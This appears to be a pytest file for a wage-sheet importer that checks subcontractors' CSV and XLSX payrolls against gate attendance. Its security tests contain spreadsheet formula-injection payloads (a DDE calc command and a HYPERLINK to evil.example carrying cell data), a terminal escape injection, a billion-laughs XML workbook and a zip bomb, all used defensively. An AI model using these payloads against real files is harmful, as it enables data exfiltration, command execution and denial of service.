"""The employer's wage sheet checked against the gates, on both engines, from real files.

October 2026 as tests/test_wages.py builds it (W1 4 days at a day rate, W2 5.5 hours, W3 10 hours at
10 yuan an hour, W4 one day still to decide, W5 one overnight shift), and sheets written here as a
subcontractor would send them: UTF-8 CSV with English headers, GBK CSV with Chinese headers and a title
row, an XLSX written by openpyxl.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook

from collector.ingest.pipeline import Incoming, Ingestor
from collector.wages.sheet import MAX_UNPACKED_BYTES, SheetError, read_sheet
from gate_agent.protocol import GateTopics, encode_punches, format_time
from tests.helpers import PunchFactory, heartbeat, resident_id
from tests.test_wages import CARDS, local, month  # noqa: F401 - the October fixture, shared

ACCOUNT = {worker: f"622202123456789{int(worker[1:]):04d}" for worker in CARDS}  # as registered
HEADER = ["worker", "name", "days", "amount", "deductions", "bank_account"]
#: A sheet that agrees with the gates and the table (once the minimum wage is 10 yuan an hour).
AGREEING = [
    ["W1", "工人W1", "4", "1460.00", "20.00", ACCOUNT["W1"]],
    ["W2", "工人W2", "3", "247.56", "", ACCOUNT["W2"]],
    ["W3", "工人W3", "1", "100", "0", ACCOUNT["W3"]],
    ["W5", "工人W5", "1", "400.00", "0", ACCOUNT["W5"]],
]


class Sheets:
    def __init__(self, october, directory: Path):
        self.month, self.directory = october, directory
        directory.mkdir(exist_ok=True)

    def csv(self, name: str, rows: list[list[str]], encoding: str = "utf-8") -> Path:
        text = io.StringIO()
        csv.writer(text, lineterminator="\r\n").writerows(rows)
        path = self.directory / name
        path.write_bytes(text.getvalue().encode(encoding))
        return path

    def xlsx(self, name: str, rows: list[list]) -> Path:
        workbook = Workbook()
        for row in rows:
            workbook.active.append(row)
        path = self.directory / name
        workbook.save(path)
        return path

    def import_(self, path: Path, *args: str, check: bool = True, period: str = "2026-10"):
        return self.month.cli("wages", "import-sheet", "--site", "S1", "--period", period, str(path), "--by",
                              "ops-li", *args, check=check)

    def run_table(self) -> None:
        self.month.cli("wages", "run", "--site", "S1", "--period", "2026-10", "--by", "ops-wang")

    def check(self, *args: str, fmt: str = "--json"):
        result = self.month.cli("wages", "check", "--site", "S1", "--period", "2026-10", *args, fmt)
        return result.stdout

    def findings(self) -> set[tuple[str, str]]:
        return {(f["kind"], f["worker"]) for f in json.loads(self.check())["findings"]}

    def count(self, table: str) -> int:
        return self.month.setup.rows(f"SELECT COUNT(*) FROM {table}")[0][0]


@pytest.fixture
def sheets(month, tmp_path):  # noqa: F811 - the imported fixture
    return Sheets(month, tmp_path / "sheets")


def test_a_sheet_that_agrees_with_the_gates_has_no_findings(sheets):
    # Where the minimum is 10 yuan an hour, W3's 10 hours at 10 yuan are not below it.
    sheets.month.cli("site", "minimum-wage", "S1", "--hourly-yuan", "10", "--monthly-yuan", "2690", "--from",
                     "2026-10-01", "--by", "ops-li")
    path = sheets.csv("october.csv", [HEADER, *AGREEING], encoding="utf-8-sig")
    imported = sheets.import_(path).stdout
    assert "sheet 1: " in imported and "(csv, utf-8 with BOM), 4 line(s), 2207.56 yuan claimed" in imported
    sheets.run_table()
    result = sheets.month.json("wages", "check", "--site", "S1", "--period", "2026-10")
    assert result["findings"] == [] and set(result["summary"].values()) == {0}
    assert (result["sheet"]["file_name"], result["sheet"]["encoding"], result["sheet"]["imported_by"]) == \
        ("october.csv", "utf-8 with BOM", "ops-li")
    assert result["table"]["version"] == 1 and len(result["sheet"]["sha256"]) == 64
    # W4 has only a day to decide: no verified day, so no line is owed; accounts are shown masked.
    assert [line["bank_account"] for line in result["lines"]][0] == "***************0001"
    text = sheets.month.cli("wages", "check", "--site", "S1", "--period", "2026-10").stdout
    assert "no findings: the sheet's 4 line(s) agree with the gates and the wage table" in text


def test_each_finding_from_a_gbk_sheet_with_chinese_headers(sheets):
    rows = [
        ["华建劳务 2026年10月 农民工工资表"],  # a title row above the header
        ["工号", "姓名", "身份证号", "出勤天数", "应发工资（元）", "扣款", "实发", "银行账号", "备注"],
        ["W1", "工人W1", resident_id(1), "5", "1460.00", "20.00", "1440.00", "6222 0212 3456 7890 001", ""],
        ["W2", "工人W2", "", "3", "250.00", "0", "250.00", "6222-0212-3456-7890-001", "与W1同卡"],
        ["W3", "工人W3", "", "1", "100.00", "0", "100.00", ACCOUNT["W3"], ""],
        ["W4", "工人W4", "", "2", "600.00", "0", "600.00", "6217000011112222333", ""],
        ["W9", "赵六", "", "22", "7700.00", "100.00", "7600.00", ACCOUNT["W5"], "不在名册"],
    ]
    path = sheets.csv("十月工资.csv", rows, encoding="gbk")
    imported = sheets.import_(path).stdout
    assert "(csv, gb18030), 5 line(s), 10110.00 yuan claimed" in imported
    assert "ignored column(s): 备注" in imported and "skipped 1 row(s) above the header (line 2)" in imported
    sheets.run_table()
    assert sheets.findings() == {
        ("ghost", "W4"),  # registered, but no verified day (one day still to decide)
        ("ghost", "W9"),  # not a registered worker
        ("unpaid", "W5"),  # an overnight shift the gates verified, and no line
        ("days_over", "W1"),  # 5 days claimed, 4 verified
        ("below_minimum", "W3"),  # 100 yuan for 10 hours at a 23.50 minimum
        ("shared_account", "W1"), ("shared_account", "W2"),  # one card, written two ways
        ("shared_account", "W9"),  # W5's registered account
        ("account_differs", "W2"),  # W1's account, not the one registered for W2
        ("account_differs", "W4"),  # an account the bank never registered for W4
        ("amount_differs", "W2"),  # 250.00 claimed, 247.56 computed
    }
    result = json.loads(sheets.check())
    by = {(f["kind"], f["worker"]): f for f in result["findings"]}
    assert by[("ghost", "W9")]["gates_say"] == "not a registered worker" and by[("ghost", "W9")]["row"] == 7
    assert by[("ghost", "W4")]["gates_say"] == "no verified day at S1 in 2026-10 (1 day(s) to decide)"
    assert by[("days_over", "W1")]["sheet_says"] == "5 days" and \
        by[("days_over", "W1")]["gates_say"] == "4 verified days, 36:00 h"
    below = by[("below_minimum", "W3")]
    assert (below["detail"]["minimum"], below["detail"]["minimum_fen"], below["detail"]["worked_minutes"]) == \
        ("hourly", 23500, 600)
    assert by[("unpaid", "W5")]["gates_say"] == "1 verified days, 8:00 h; 400.00 yuan gross in wage table version 1"
    assert by[("shared_account", "W1")]["detail"]["shared_with"] == ["W2"]
    assert by[("shared_account", "W9")]["gates_say"] == "the same account as W5 (registered account)"
    assert by[("amount_differs", "W2")]["sheet_says"] == "250.00 yuan" and \
        by[("amount_differs", "W2")]["detail"]["table_gross_fen"] == 24756
    # The sheet kept as read: the account digits only, the ID number masked when shown.
    w1 = next(line for line in result["lines"] if line["worker"] == "W1")
    assert (w1["days"], w1["amount_fen"], w1["deductions_fen"], w1["net_fen"]) == ("5", 146000, 2000, 144000)
    assert w1["id_number"] == "110***********0001" and "6222021234567890001" not in json.dumps(result)


def test_a_full_month_below_the_monthly_minimum_read_exactly_from_an_xlsx(sheets):
    # W5 also works October 1-22, 8 hours a day, through a third gate: 23 days, 184 hours, a full month.
    east = PunchFactory(gate="east")
    with sheets.month.setup.store() as store:
        store.add_gate("S1", "east", east.public_key)
        incoming = []
        for day in range(1, 23):
            for hour, direction in ((8, "in"), (16, "out")):
                when = local(f"2026-10-{day:02d} {hour:02d}:00")
                punch = east.next(card=CARDS["W5"], direction=direction, at=when.astimezone(UTC))
                incoming.append(Incoming(GateTopics("S1", "east").punch, encode_punches([punch]),
                                         format_time(when + timedelta(seconds=2))))
        Ingestor(store).ingest(incoming)
        when = local("2026-11-02 09:00")
        store.save_status("S1", "east", {"v": 1, "state": "online", **heartbeat(
            gate="east", time=format_time(when), pending=0, oldest_pending_at=None)}, format_time(when))
    sheets.run_table()
    # Excel keeps 2600.18 as the double 2600.179999...: read through its decimal text it is 260018 fen
    # (int(2600.18 * 100) would say 260017).
    assert int(2600.18 * 100) == 260017
    path = sheets.xlsx("october.xlsx", [
        ["工号", "姓名", "出勤天数", "工时", "应发工资", "扣款", "银行账号"],
        ["W1", "工人W1", 4, 36, 1460, 20, ACCOUNT["W1"]],
        ["W2", "工人W2", 3, 5.5, 247.56, None, ACCOUNT["W2"]],
        ["W3", "工人W3", 1, 10, 235, 0, ACCOUNT["W3"]],
        ["W5", "工人W5", 23, 184, 2600.18, 0, ACCOUNT["W5"]],
        ["合计", None, None, None, 4542.74, 20, None],
    ])
    imported = sheets.import_(path).stdout
    assert "(xlsx, xlsx), 4 line(s), 4542.74 yuan claimed" in imported
    assert "total row (row 6) agrees with the lines" in imported
    result = json.loads(sheets.check())
    w5 = next(line for line in result["lines"] if line["worker"] == "W5")
    assert (w5["amount_fen"], w5["days"], w5["hours"]) == (260018, "23", "184")
    w2 = next(line for line in result["lines"] if line["worker"] == "W2")
    assert (w2["amount_fen"], w2["hours"]) == (24756, "5.5")
    findings = {(f["kind"], f["worker"]): f for f in result["findings"]}
    assert set(findings) == {("below_minimum", "W5"), ("amount_differs", "W3"), ("amount_differs", "W5")}
    below = findings[("below_minimum", "W5")]
    assert below["detail"] == {"sheet_amount_fen": 260018, "worked_minutes": 184 * 60, "minimum_fen": 269000,
                               "minimum": "monthly"}
    assert below["gates_say"] == "23 verified days, 184:00 h: a full month: the monthly minimum is 2690.00 yuan"
    # W3 paid 235.00 for 10 hours: exactly the hourly minimum, not below it.
    assert findings[("amount_differs", "W3")]["detail"]["table_gross_fen"] == 10000


def test_bad_rows_refuse_the_whole_file_with_their_numbers(sheets):
    path = sheets.csv("bad.csv", [
        HEADER + ["net"],
        ["W1", "工人W1", "4", "1460.00", "20.00", ACCOUNT["W1"], "1440.00"],  # line 2: good
        ["W2", "工人W2", "3", "1,247.56", "0", ACCOUNT["W2"], ""],  # a thousands separator
        ["W3", "工人W3", "three", "100", "0", ACCOUNT["W3"], ""],
        ["W1", "again", "1", "10", "0", ACCOUNT["W1"], ""],  # twice in one sheet
        ["", "nobody", "1", "10", "0", ACCOUNT["W4"], ""],
        ["W5", "工人W5", "1", "400.005", "0", ACCOUNT["W5"], ""],  # more than two decimals: never rounded
        ["W6", "x", "1", "400", "0", ACCOUNT["W5"], "390"],  # net is not amount less deductions
        ["W7", "x", "32", "400", "500", "not-an-account", ""],
    ])
    refused = sheets.import_(path, check=False)
    assert refused.returncode == 1 and refused.stdout == ""
    assert "bad.csv: 7 bad row(s); nothing imported" in refused.stderr
    for line, words in ((3, "'1,247.56' is not yuan"), (4, "days 'three'"), (5, "worker W1 is also on line 2"),
                        (6, "no worker id"), (7, "'400.005' is not yuan with at most two decimals"),
                        (8, "net 390.00 is not the amount 400.00 less deductions 0.00"),
                        (9, "days '32' is not a number of days from 0 to 31")):
        assert f"bad.csv: line {line}: " in refused.stderr and words in refused.stderr, (line, words)
    assert "deductions 500.00 exceed the amount 400.00" in refused.stderr
    assert "bank account '********ount' is not 8 to 32 digits" in refused.stderr
    assert "line 2:" not in refused.stderr
    # An XLSX: numbers are rows; an account a spreadsheet kept as a number has lost its last digits.
    workbook = sheets.xlsx("bad.xlsx", [HEADER, ["W1", "x", 4, 1460.005, 0, ACCOUNT["W1"]],
                                        ["W2", "x", 3, 247.56, 0, int(ACCOUNT["W2"]) * 1.0],
                                        ["W3", "x", True, 100, 0, ACCOUNT["W3"]]])
    refused = sheets.import_(workbook, check=False)
    assert refused.returncode == 1 and "3 bad row(s); nothing imported" in refused.stderr
    assert "row 2: amount '1460.005' is not yuan with at most two decimals" in refused.stderr
    assert "row 3: bank_account: a number cell (6.22202E+18) whose digits" in refused.stderr
    assert "row 4: days: TRUE is a true/false cell" in refused.stderr
    # Thousands of bad rows: the first ones, then a count.
    many = sheets.csv("many.csv", [HEADER] + [[f"W{n}", "x", "1", "1.001", "0", ACCOUNT["W1"]] for n in range(5000)])
    refused = sheets.import_(many, check=False)
    assert "many.csv: 5000 bad row(s); nothing imported" in refused.stderr
    assert refused.stderr.count("many.csv: line ") == 20 and "... and 4980 more bad row(s)" in refused.stderr
    assert sheets.count("wage_sheets") == sheets.count("wage_sheet_lines") == 0
    # A file that is not a sheet at all: one line.
    for name, data, why in (("utf16.csv", "worker,days".encode("utf-16"), "NUL bytes"),
                            ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "old binary Excel"),
                            ("broken.xlsx", b"PK\x03\x04broken", "not a readable .xlsx"),
                            ("noheader.csv", b"a,b\n1,2\n", "no header row")):
        (sheets.directory / name).write_bytes(data)
        refused = sheets.import_(sheets.directory / name, check=False)
        assert refused.returncode == 1 and why in refused.stderr and "nothing imported" in refused.stderr, name
        assert "Traceback" not in refused.stderr


def test_the_same_file_twice_changes_nothing_and_deductions_are_taken_only_when_asked(sheets):
    path = sheets.csv("october.csv", [HEADER, *AGREEING])
    first = sheets.import_(path).stdout
    assert "deductions claimed: 20.00 yuan, not recorded (--take-deductions records them" in first
    again = sheets.import_(path)
    assert again.returncode == 0 and "was imported before as sheet 1: nothing changed" in again.stdout
    assert (sheets.count("wage_sheets"), sheets.count("wage_sheet_lines")) == (1, 4)
    refused = sheets.import_(path, check=False, period="2026-09")
    assert refused.returncode == 1 and "was imported as sheet 1 for S1 2026-10" in refused.stderr
    with sheets.month.setup.store() as store:
        assert [d["source"] for d in store.deductions("S1", "2026-10")] == ["operator ops-li"]
    # The sheet's 20.00 for W1 is the 20.00 already recorded (its whole deduction for the month): nothing
    # more is taken (tests/test_wages_payee.py takes a difference and refuses a sheet that deducts less).
    taken = sheets.import_(path, "--take-deductions", "--json").stdout
    assert json.loads(taken)["deductions_taken"] == {"recorded": 0, "recorded_fen": 0, "taken_before": False,
                                                     "not_registered": []}
    once_more = sheets.import_(path, "--take-deductions").stdout
    assert "its deductions were recorded on " in once_more and "by ops-li" in once_more
    with sheets.month.setup.store() as store:
        deductions = store.deductions("S1", "2026-10")
    assert [(d["worker"], d["amount_fen"], d["source"], d["item"]) for d in deductions] == \
        [("W1", 2000, "operator ops-li", "个人所得税")], "never doubled"


def test_values_from_the_sheet_are_escaped_on_the_terminal_and_neutralised_in_the_csv(sheets):
    path = sheets.csv("october.csv", [
        HEADER + ["=cmd|' /C calc'!A0"],
        *AGREEING,
        ["W9", '=HYPERLINK("http://evil.example/?"&A1,"pay")', "1", "350", "0", "6217000011112222333", "x"],
        ["W8", "ghost\x1b[2J\nW1 fake line", "1", "350", "0", "6217000011112222444", ""],
    ])
    imported = sheets.import_(path).stdout
    assert "ignored column(s): =cmd|' /C calc'!A0" in imported
    sheets.run_table()
    table = sheets.check(fmt="--csv")
    rows = list(csv.DictReader(io.StringIO(table.lstrip("\ufeff"))))
    w9 = next(row for row in rows if row["worker"] == "W9")
    assert w9["kind"] == "ghost" and w9["name"].startswith("'=HYPERLINK(")
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    text = sheets.month.cli("wages", "check", "--site", "S1", "--period", "2026-10").stdout
    assert "\x1b" not in text and "\\x1b[2J" in text
    assert not any(line.startswith("W1 fake line") for line in text.splitlines())


def test_the_check_needs_the_table_and_says_which_sheet(sheets):
    sheets.import_(sheets.csv("october.csv", [HEADER, *AGREEING]))
    refused = sheets.month.cli("wages", "check", "--site", "S1", "--period", "2026-10", check=False)
    assert refused.returncode == 1
    assert refused.stderr.strip() == ("Error: S1 2026-10 has no wage table: run `collector wages run --site S1 "
                                      "--period 2026-10` first")
    sheets.run_table()
    # The employer's own sheet, without W5: it is that employer's worker, so W5 is unpaid.
    sheets.import_(sheets.csv("huajian.csv", [HEADER, *AGREEING[:3]]), "--employer", "华建劳务")
    refused = sheets.month.cli("wages", "check", "--site", "S1", "--period", "2026-10", check=False)
    assert refused.returncode == 1 and "sheets of several employers (none named, 华建劳务): say which" in refused.stderr
    own = json.loads(sheets.check("--employer", "华建劳务"))
    assert (own["sheet"]["id"], own["sheet"]["file_name"]) == (2, "huajian.csv")
    assert {(f["kind"], f["worker"]) for f in own["findings"]} == {("unpaid", "W5"), ("below_minimum", "W3")}
    assert "unpaid looks only at workers of 华建劳务" in own["notes"]
    first = json.loads(sheets.check("--sheet", "1"))
    assert first["sheet"]["file_name"] == "october.csv"
    assert {(f["kind"], f["worker"]) for f in first["findings"]} == {("below_minimum", "W3")}
    missing = sheets.month.cli("wages", "check", "--site", "S1", "--period", "2026-10", "--sheet", "9", check=False)
    assert missing.returncode == 1 and "S1 2026-10 has no wage sheet 9" in missing.stderr


def test_a_hostile_workbook_is_refused_at_once(tmp_path):
    """Entity expansion inside the XML, and a zip that unpacks to far more than any sheet."""
    clean = io.BytesIO()
    workbook = Workbook()
    workbook.active.append(HEADER)
    workbook.active.append(["W1", "x", 1, 10, 0, ACCOUNT["W1"]])
    workbook.save(clean)
    laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>"
    bomb = io.BytesIO()
    with zipfile.ZipFile(clean) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                assert ">W1<" in text
                text = text.split("?>", 1)[1] if text.startswith("<?xml") else text
                data = (laughs + text.replace(">W1<", ">&j;<")).encode()
            target.writestr(info, data)
    (tmp_path / "laughs.xlsx").write_bytes(bomb.getvalue())
    with pytest.raises(SheetError, match="not a workbook that can be read"):
        read_sheet(tmp_path / "laughs.xlsx", period_days=31)
    large = io.BytesIO()
    with zipfile.ZipFile(clean) as source, zipfile.ZipFile(large, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info.filename))
        target.writestr("xl/padding.bin", bytes(MAX_UNPACKED_BYTES))
    (tmp_path / "large.xlsx").write_bytes(large.getvalue())
    assert (tmp_path / "large.xlsx").stat().st_size < 1_000_000
    with pytest.raises(SheetError, match="unpacks to .* bytes, more than a wage sheet"):
        read_sheet(tmp_path / "large.xlsx", period_days=31)
